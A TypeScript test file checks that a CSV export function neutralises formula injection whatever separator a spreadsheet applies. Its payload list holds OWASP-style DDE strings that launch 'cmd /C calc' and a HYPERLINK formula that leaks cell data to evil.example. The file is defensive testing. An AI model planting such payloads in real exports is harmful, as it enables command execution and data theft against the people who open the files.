/**
 * CSV injection, tried the way a spreadsheet reads the file: with `,` as the
 * separator, with `;` (many European locales) and with tab. No payload from
 * OWASP's list may give a cell that starts with a formula character.
 */
import { describe, expect, it } from "vitest";
import { csvRecord } from "./csv";

const textCell = (text: string) => csvRecord([text]).slice(0, -2);

const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example?x="&A1,"click")`,
  `DDE ("cmd";"/C calc";"!A0")A0`,
  `=1+2";=1+2`,
  `\t=cmd|' /C calc'!A0`,
  `\r=cmd|' /C calc'!A0`,
  `\n=cmd|' /C calc'!A0`,
];
const WRAPPERS = [(p: string) => p, (p: string) => `dev;${p}`, (p: string) => `dev,${p}`, (p: string) => `dev\t${p}`];

/** How a spreadsheet splits one line into cells with this separator (RFC 4180 quoting). */
function cells(line: string, sep: string): string[] {
  const out: string[] = [];
  let cur = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === sep) {
      out.push(cur);
      cur = "";
    } else cur += ch;
  }
  out.push(cur);
  return out;
}

describe("CSV cells against formula injection, whatever the separator", () => {
  it("no payload, alone or after a separator of any locale, yields a cell that starts with a formula", () => {
    for (const payload of PAYLOADS)
      for (const wrap of WRAPPERS) {
        const text = wrap(payload);
        const line = `ok,${textCell(text)},ok`;
        for (const sep of [",", ";", "\t"])
          for (const cell of cells(line, sep))
            expect(/^[=+\-@]/.test(cell.trimStart()), `${JSON.stringify(text)} split by ${JSON.stringify(sep)}`).toBe(
              false,
            );
      }
  });

  it("leaves plain ids as they are", () => {
    expect(textCell("sensor-1")).toBe("sensor-1");
    expect(textCell("a b/c")).toBe("a b/c");
  });
});
